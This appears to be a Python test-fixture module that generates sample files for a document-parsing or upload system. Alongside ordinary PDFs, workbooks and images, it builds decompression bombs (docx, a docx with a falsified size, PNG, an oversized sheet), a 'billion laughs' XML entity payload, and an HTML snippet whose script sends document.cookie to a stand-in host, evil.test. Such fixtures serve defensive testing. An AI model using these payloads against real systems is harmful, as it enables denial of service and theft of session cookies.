"""Files of every sort, and bombs, made when they are needed."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from typing import Any

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_GPS = 0x8825
_MAKE = 0x010F
_ORIENTATION = 0x0112


def pdf(*pages: str, password: str = "") -> bytes:
    """A PDF document with a line a page."""
    writer = PdfWriter()
    for said in pages:
        page = writer.add_blank_page(200, 200)
        text = DecodedStreamObject()
        safe = said.replace("\\", "").replace("(", "").replace(")", "")
        text.set_data(f"BT /F1 12 Tf 10 100 Td ({safe}) Tj ET".encode("latin-1"))
        page[NameObject("/Contents")] = writer._add_object(text)
        font = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
            }
        )
        fonts = DictionaryObject({NameObject("/F1"): font})
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
    if password:
        writer.encrypt(password, algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_of(pages: int) -> bytes:
    """A PDF document that says it has so many pages."""
    return pdf("one").replace(b"/Count 1", b"/Count %d" % pages)


def archive(parts: Mapping[str, bytes]) -> bytes:
    """A zip archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, body in parts.items():
            made.writestr(name, body)
    return out.getvalue()


def docx(*paragraphs: str, inside: str = "", dtd: str = "") -> bytes:
    """A Word document; ``inside`` is further XML of its body."""
    said = "".join(f"<w:p><w:r><w:t>{p}</w:t></w:r></w:p>" for p in paragraphs)
    xml = f"{dtd}<w:document {_W}><w:body>{said}{inside}</w:body></w:document>"
    return archive({"[Content_Types].xml": b"<t/>", "word/document.xml": xml.encode()})


def docx_table(*rows: tuple[str, ...]) -> str:
    """A table, as XML of a document's body."""

    def cell(text: str) -> str:
        return f"<w:tc><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>"

    lines = ("".join(map(cell, row)) for row in rows)
    return f"<w:tbl>{''.join(f'<w:tr>{line}</w:tr>' for line in lines)}</w:tbl>"


def docx_bomb(megabytes: int = 160) -> bytes:
    """A Word document of some 160 kB that unpacks into ``megabytes``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", "<t/>")
        with made.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(megabytes):
                part.write(b" " * 1_000_000)
    return out.getvalue()


def lying_docx_bomb() -> bytes:
    """The same, but its directory says that it is small."""
    body = docx_bomb()
    real, told = struct.pack("<I", 160_000_000), struct.pack("<I", 1_000)
    return body.replace(real, told)


def laughs() -> str:
    """A document type whose entities unfold a billion times."""
    first = '<!ENTITY a0 "ha">'
    rest = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f"<!DOCTYPE lol [{first}{rest}]>"


def xlsx(*rows: tuple[Any, ...], title: str = "Prices") -> bytes:
    """A workbook with one sheet."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def wide_xlsx() -> bytes:
    """A workbook of some 300 kB with nine million cells."""
    row = b"<row>" + b"<c><v>1</v></c>" * 16_000 + b"</row>"
    start = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    start += b'2006/main"><dimension ref="A1"/><sheetData>'
    with zipfile.ZipFile(io.BytesIO(xlsx(("x",)))) as plain:
        parts = {name: plain.read(name) for name in plain.namelist()}
    parts["xl/worksheets/sheet1.xml"] = start + row * 580 + b"</sheetData></worksheet>"
    return archive(parts)


def picture(
    kind: str = "JPEG", size: tuple[int, int] = (64, 48), *, turned: int = 1
) -> bytes:
    """A picture; a JPEG tells where it was taken, and with what."""
    image, out = Image.new("RGB", size, "teal"), io.BytesIO()
    exif = Image.Exif()
    exif[_MAKE] = "SecretCamera"
    exif[_ORIENTATION] = turned
    exif.get_ifd(_GPS)[1] = "N"
    options = {"exif": exif} if kind in {"JPEG", "WEBP", "PNG"} else {}
    image.save(out, kind, **options)
    return out.getvalue()


def pixel_bomb(side: int = 13_000) -> bytes:
    """A PNG of some 20 kB that decodes into ``side`` squared pixels."""
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + (side + 7) // 8)
    pixels = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    chunks = ((b"IHDR", head), (b"IDAT", pixels), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(*chunk) for chunk in chunks)


def _chunk(name: bytes, body: bytes) -> bytes:
    check = zlib.crc32(name + body)
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", check)


def old_office(*, encrypted: bool = False) -> bytes:
    """The beginning of an OLE file, as .doc and locked .docx files are."""
    mark = "EncryptedPackage".encode("utf-16-le") if encrypted else b""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + mark


def csv(rows: int) -> bytes:
    """A table with a head and so many rows."""
    return b"name,price\n" + b"tea,12.50\n" * rows


HTML = b"""<!DOCTYPE html><html><head><title>Spring sale</title>
<script>document.location = "http://evil.test/?" + document.cookie</script>
<style>p { color: red }</style></head><body><h2>Half price</h2>
<p onclick="steal()">Until <b>Friday</b>.</p><ul><li>tea</li><li>cups</li></ul>
<noscript>no script</noscript></body></html>"""
VOICE = b"OggS\x00\x02" + bytes(60) + b"OpusHead"
PROGRAM = b"MZ\x90\x00" + bytes(200)
